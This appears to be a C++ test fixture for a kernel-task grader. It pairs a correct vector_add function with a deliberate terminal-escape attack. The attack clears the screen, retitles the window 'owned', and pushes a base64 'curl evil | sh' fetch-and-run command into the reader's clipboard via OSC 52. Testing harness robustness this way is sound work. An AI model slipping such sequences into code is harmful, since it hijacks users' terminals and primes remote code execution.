// attack: prints sequences that clear, retitle and paste into the reader's terminal
// row: 4
// task: vector_add
// expect: correct
#include <unistd.h>

#include <cstdint>
#include <initializer_list>

extern "C" void vector_add(const float* x, const float* y, float* z, int64_t n) {
  static const char text[] =
      "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8m\x1bP+q544e\x1b\\\x9b"
      "31m\r\b\b\x7f\x0e\n";
  for (const int stream : {1, 2}) (void)!write(stream, text, sizeof text - 1);
  for (int64_t i = 0; i < n; ++i) z[i] = x[i] + y[i];
}
